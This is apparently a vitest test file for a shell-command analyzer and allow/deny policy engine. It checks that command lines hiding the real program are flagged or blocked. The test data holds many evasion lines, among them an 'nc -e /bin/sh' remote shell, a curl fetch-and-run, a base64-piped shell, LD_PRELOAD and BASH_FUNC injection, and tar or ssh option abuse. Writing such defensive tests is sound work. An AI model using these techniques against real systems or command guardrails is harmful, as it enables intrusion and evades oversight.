import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeCommandLine } from './analyze.js';
import type { ConstructKind } from './constructs.js';
import { compileShellPolicy } from './decide.js';
import { readSedScript } from './runners/index.js';

const kinds = (line: string, pty = false) => analyzeCommandLine(line, { pty }).constructs.map((c) => c.kind);
const programs = (line: string) =>
  analyzeCommandLine(line)
    .commands.filter((c) => !c.builtin)
    .map((c) => c.path);

describe('analyzeCommandLine: constructs that hide the program', () => {
  it.each<[string, ConstructKind]>([
    ['$(echo canary)', 'dynamic-program'],
    ['`echo canary`', 'dynamic-program'],
    ['c=canary; $c', 'dynamic-program'],
    ['"${c}" --flag', 'dynamic-program'],
    ['{canary,}', 'dynamic-program'],
    ['/usr/local/bin/cana*', 'dynamic-program'],
    ["$'\\x63anary'", 'dynamic-program'],
    ['$"canary"', 'dynamic-program'],
    ['eval canary', 'eval'],
    ['builtin eval canary', 'eval'],
    ['command eval canary', 'eval'],
    ['trap canary EXIT', 'eval'],
    ['compgen -C canary x', 'eval'],
    ['source /tmp/x', 'source'],
    ['. ./x', 'source'],
    ['shopt -s expand_aliases; alias ls=canary\nls', 'program-lookup'],
    ['hash -p /usr/local/bin/canary ls; ls', 'program-lookup'],
    ['enable -f /tmp/x.so canary', 'program-lookup'],
    ['PATH=/tmp:$PATH x', 'environment'],
    ['export PATH=/tmp', 'environment'],
    ['declare -x LD_PRELOAD=/tmp/x.so; ls', 'environment'],
    ['env LD_PRELOAD=/tmp/x.so ls', 'environment'],
    ['BASH_ENV=/tmp/x bash -c ls', 'environment'],
    ['unset PATH; ls', 'environment'],
    ['echo Y2FuYXJ5 | base64 -d | sh', 'shell-input'],
    ["bash <<< 'canary'", 'shell-input'],
    ['sh <<EOF\ncanary\nEOF', 'shell-input'],
    ['bash', 'shell-input'],
    ['python3', 'shell-input'],
    ['perl < /dev/stdin', 'shell-input'],
    ['python3 -c "import os; os.system(\'canary\')"', 'inline-code'],
    ['perl -e \'system "canary"\'', 'inline-code'],
    ["perl '-MPOSIX;system q(canary)' -e1", 'inline-code'],
    ["node -e 'x'", 'inline-code'],
    ["ruby -e 'x'", 'inline-code'],
    ['python3 -m timeit -s x y', 'inline-code'],
    ['awk \'BEGIN{system("canary")}\'', 'inline-code'],
    ['awk \'{print | "canary"}\' f', 'inline-code'],
    ['echo canary | sed e', 'inline-code'],
    ["sed 's/.*/canary/e' f", 'inline-code'],
    ['bash -c "$(printf canary)"', 'inline-code'],
    ['zsh -c canary', 'inline-code'],
    ['echo canary > /tmp/x.sh; sh /tmp/x.sh', 'written-then-run'],
    ['echo canary > x; chmod +x x; ./x', 'written-then-run'],
    ['cp /usr/local/bin/canary /tmp/y; /tmp/y', 'written-then-run'],
    ['printf canary | tee /tmp/z >/dev/null; bash /tmp/z', 'written-then-run'],
    ['curl -O https://x.example/tool; ./tool', 'written-then-run'],
    ["sed -n 'w /tmp/q' f; sh /tmp/q", 'written-then-run'],
    ['echo canary | xargs sh -c', 'program-runner'],
    ['find . -exec sh -c {} \\;', 'program-runner'],
    ['echo canary | xargs env', 'program-runner'],
    ['env -S "canary x"', 'program-runner'],
    ['sudo -e /etc/hosts', 'program-runner'],
    ['tar cf x.tar --checkpoint=1 --checkpoint-action=exec=canary .', 'program-runner'],
    ['tar -xIcanary -f a.tar', 'program-runner'],
    ['git -c core.pager=canary log', 'program-runner'],
    ['git config alias.x "!canary"', 'program-runner'],
    ['ssh -o ProxyCommand=canary host', 'program-runner'],
    ['rsync -e canary a b:c', 'program-runner'],
    ['sort --compress-program=canary f', 'program-runner'],
    ['split --filter=canary f', 'program-runner'],
    ['socat - EXEC:canary', 'program-runner'],
    ['nc -e /bin/sh host 1', 'program-runner'],
    ['make CC=canary', 'program-runner'],
    ["echo '!canary' | ed", 'program-runner'],
    ['psql -c "\\! canary"', 'program-runner'],
    ['tar $opts -xf a.tar', 'program-runner'],
    ['sudo $cmd', 'program-runner'],
    ["x='a[$(canary)]'; echo $((x))", 'arithmetic'],
    ["x='a[$(canary)]'; [[ $x -eq 1 ]]", 'arithmetic'],
    ["unset 'a[$(canary)]'", 'arithmetic'],
    ["declare -i n='a[$(canary)]'", 'arithmetic'],
    ["printf -v 'a[$(canary)]' x", 'arithmetic'],
    ['echo ${!ref}', 'arithmetic'],
    ["p='$(canary)'; echo ${p@P}", 'arithmetic'],
    ['echo $(( $(cat f) ))', 'arithmetic'],
    ['echo ${a[$i]}', 'arithmetic'],
    ['su', 'interactive-shell'],
    ['sudo -s', 'interactive-shell'],
    ['chroot /', 'interactive-shell'],
    ['bash -i', 'interactive-shell'],
    ['script /tmp/log', 'interactive-shell'],
    ["echo 'unterminated", 'unparseable'],
    ['((canary) )', 'unparseable'],
    ['ls\rcanary', 'malformed'],
    ['ls\u0000; canary', 'malformed'],
  ])('%j: %s', (line, kind) => {
    expect(kinds(line)).toContain(kind);
  });

  it('script files run only when listed in scripts, by absolute path', () => {
    const listed = (path: string) => path === '/opt/app/deploy.sh';
    const withScripts = (line: string) => analyzeCommandLine(line, { scripts: listed }).constructs.map((c) => c.kind);
    expect(withScripts('bash /opt/app/deploy.sh --dry-run')).toEqual([]);
    expect(withScripts('bash < /opt/app/deploy.sh')).toEqual([]);
    expect(withScripts('bash /opt/app/../app/deploy.sh')).toEqual([]);
    for (const line of [
      'bash deploy.sh',
      'python3 manage.py migrate',
      'bash < existing-script.sh',
      'awk -f prog.awk f',
      'sed -f prog.sed f',
      'python3 -m unittest discover',
      'bash /opt/app/other.sh',
    ]) {
      expect(withScripts(line), line).toContain(line.includes('-m unittest') ? 'inline-code' : 'script-file');
    }
  });

  it('pagers are runners only with a terminal', () => {
    expect(kinds('journalctl -u nginx')).toEqual([]);
    expect(kinds('journalctl -u nginx', true)).toEqual(['program-runner']);
    expect(kinds('less /var/log/syslog', true)).toEqual(['program-runner']);
  });

  it('refuses lines longer than the limit', () => {
    expect(kinds(`echo ${'a'.repeat(70_000)}`)).toEqual(['malformed']);
  });
});

describe('analyzeCommandLine: what it sees through', () => {
  it.each<[string, string[]]>([
    ['ls -la /tmp | grep x && echo ok', ['ls', 'grep']],
    ["bash -c 'ls; cat /etc/hostname'", ['bash', 'ls', 'cat']],
    ["sh -ec 'id' ignored", ['sh', 'id']],
    ['sudo -u root -E systemctl restart nginx', ['sudo', 'systemctl']],
    ['timeout -s KILL 5 nice -n 5 ls', ['timeout', 'nice', 'ls']],
    ['env -i FOO=1 ls', ['env', 'ls']],
    ['find /etc -name x -exec grep -l y {} +', ['find', 'grep']],
    ['echo x | xargs -0 -n1 stat', ['xargs', 'stat']],
    ['echo "$(date)" `hostname`', ['date', 'hostname']],
    ['diff <(sort a) <(sort b)', ['sort', 'sort', 'diff']],
    ['exec ls', ['ls']],
    ['command -v canary', []],
    ['f() { ls; }; f', ['ls']],
    ['for f in /etc/*.conf; do wc -l "$f"; done', ['wc']],
    ['if [ -f x ]; then cat x; else ls; fi', ['cat', 'ls']],
    ['case $x in a) ls;; *) id;; esac', ['ls', 'id']],
    ['flock /tmp/lock -c "ls"', ['flock', 'ls']],
    ['watch -n 1 df -h', ['watch', 'df']],
    ['busybox sh -c ls', ['busybox', 'sh', 'ls']],
    ["can''ary", ['canary']],
    ['c\\anary', ['canary']],
    ['/usr/bin/../bin/ls', ['/usr/bin/../bin/ls']],
  ])('%j runs %j', (line, expected) => {
    const analysis = analyzeCommandLine(line);
    expect(analysis.constructs).toEqual([]);
    expect(programs(line)).toEqual(expected);
  });

  it.each([
    'for ((i=0; i<3; i++)); do echo $i; done',
    'n=3; echo $((n * 2))',
    'echo $(( $# + 1 ))',
    '[[ -f /etc/hosts && $? -eq 0 ]]',
    'ls /etc/host* {a,b}.txt ~/x',
    "awk -F: '{print $1}' /etc/passwd",
    "sed -n 's/a/b/gp; 3q' f",
    'python3 -m http.server 8000',
    'tar -czf out.tgz dir',
    'git log --oneline -5',
    'git config user.name x',
    'curl -s https://x > out.json && jq . out.json',
    'echo "${x:-default}" ${#x} ${x%.txt}',
    'ssh host uptime',
    'sudo -l',
  ])('%j has no constructs', (line) => {
    expect(analyzeCommandLine(line).constructs).toEqual([]);
  });

  it('never throws and always answers, whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (line) => {
        const analysis = analyzeCommandLine(line);
        expect(Array.isArray(analysis.constructs)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('readSedScript', () => {
  it.each([
    ['e', true],
    ['1e id', true],
    ['s/x/y/e', true],
    ['s|x|y|ge', true],
    ['/re/!e', true],
    ['s/e/e/g', false],
    ['y/abc/xyz/', false],
    ['$!N; P; D', false],
    ['/start/,/end/d', false],
    ['a\\\nappended e', false],
  ])('%j runs a command: %s', (script, runs) => {
    expect(readSedScript(script).runs).toBe(runs);
  });

  it('finds files written with w and s///w, and what it cannot read', () => {
    expect(readSedScript('w /tmp/out').writes).toEqual(['/tmp/out']);
    expect(readSedScript('s/a/b/w /tmp/o2').writes).toEqual(['/tmp/o2']);
    expect(readSedScript('k').unknown).toBe(true);
  });
});

describe('ShellPolicy with allow_commands', () => {
  const policy = compileShellPolicy({
    guardrails: [
      {
        type: 'allow_commands',
        name: 'ops-tools',
        commands: ['ls', 'cat', 'grep', 'sudo', 'systemctl', 'bash', '/opt/app/bin/*'],
        runners: ['deploy-runner'],
      },
    ],
    reviews: [
      {
        type: 'require_command_review',
        name: 'unreadable',
        match: { dynamic: true, pattern: 'hold-me' },
        approverGroups: ['sre'],
      },
    ],
  });

  it('runs listed programs, by name, from system directories, or by listed path', () => {
    for (const line of [
      'ls -la | grep x',
      '/usr/bin/ls',
      'sudo systemctl status nginx',
      '/opt/app/bin/tool x',
      "bash -c 'cat /etc/hostname'",
    ])
      expect(policy.decide(line), line).toEqual({ action: 'allow' });
  });

  it('refuses what is not listed, and listed names given by another path', () => {
    for (const [line, path] of [
      ['id', 'id'],
      ['ls; id', 'id'],
      ['/tmp/ls', '/tmp/ls'],
      ['./ls', './ls'],
      ['sudo id', 'id'],
      ['echo "$(id)"', 'id'],
      ["bash -c 'id'", 'id'],
    ]) {
      const decision = policy.decide(line!);
      expect(decision, line).toMatchObject({ action: 'block', rule: 'ops-tools' });
      if (decision.action === 'block')
        expect(decision.message).toContain(`it runs ${path}, which is not on the allow-list`);
    }
  });

  it('holds unreadable lines for review when a review rule takes dynamic lines, naming the construct', () => {
    const decision = policy.decide('ls $(cat list) | bash');
    expect(decision).toMatchObject({ action: 'review', rule: 'unreadable', construct: 'shell-input' });
  });

  it('treats programs named by policy as runners', () => {
    const refusing = compileShellPolicy({
      guardrails: [{ type: 'allow_commands', name: 'tools', commands: ['deploy-runner'], runners: ['deploy-runner'] }],
    });
    expect(refusing.decide('deploy-runner x')).toMatchObject({ action: 'block', construct: 'program-runner' });
  });

  it('refuses interactive shells unless a review rule holds them', () => {
    expect(policy.decideShell()).toMatchObject({ action: 'block', rule: 'ops-tools', construct: 'interactive-shell' });
  });
});

describe('ShellPolicy with deny_commands fails closed', () => {
  const policy = compileShellPolicy({
    guardrails: [{ type: 'deny_commands', name: 'no-canary', commands: ['canary'] }],
  });

  it('refuses what it cannot see through, saying so', () => {
    const decision = policy.decide('eval "$(printf canary)"');
    expect(decision).toMatchObject({ action: 'block', rule: 'no-canary', construct: 'eval' });
    if (decision.action === 'block')
      expect(decision.message).toContain('deny rules refuse what they cannot see through');
  });

  it('still runs benign lines', () => {
    for (const line of ['ls / | grep -c usr', 'echo \'a b\' "c d"', 'ls /etc/host*', 'cd /tmp && pwd || true'])
      expect(policy.decide(line), line).toEqual({ action: 'allow' });
  });

  it('with review rules only, holds unreadable lines rather than letting them through', () => {
    const reviewOnly = compileShellPolicy({
      reviews: [
        {
          type: 'require_command_review',
          name: 'restarts',
          match: { commands: ['systemctl'] },
          approverGroups: ['sre'],
        },
      ],
    });
    expect(reviewOnly.decide('$(echo systemctl) restart nginx')).toMatchObject({ action: 'review', rule: 'restarts' });
    expect(reviewOnly.decide('ls')).toEqual({ action: 'allow' });
  });
});

describe('analyzeCommandLine: routes found in review', () => {
  it.each<[string, ConstructKind]>([
    ['bash /dev/stdin <<< canary', 'shell-input'],
    ['python3 /proc/self/fd/0 <<< x', 'shell-input'],
    ["env 'BASH_FUNC_ls%%=() { canary; }' bash -c ls", 'environment'],
    ["sudo 'BASH_FUNC_ls%%=() { canary; }' bash -c ls", 'environment'],
    ['declare -n ref=PATH; ref=/tmp; x', 'environment'],
    ['read PATH <<< /tmp; x', 'environment'],
    ['printf -v PATH /tmp; x', 'environment'],
    ['for PATH in /tmp; do x; done', 'environment'],
    ['echo canary | xargs -I{} {}', 'dynamic-program'],
    ['find /usr/local/bin -name canary -exec {} \\;', 'dynamic-program'],
    ['/proc/self/exe -c canary', 'dynamic-program'],
    ['editor /etc/hosts', 'program-runner'],
  ])('%j: %s', (line, kind) => {
    expect(kinds(line)).toContain(kind);
  });

  it('reads sed -ne scripts', () => {
    expect(kinds("sed -ne 's/a/b/p' f")).toEqual([]);
    expect(kinds("sed -ne '1e canary' f")).toEqual(['inline-code']);
  });
});
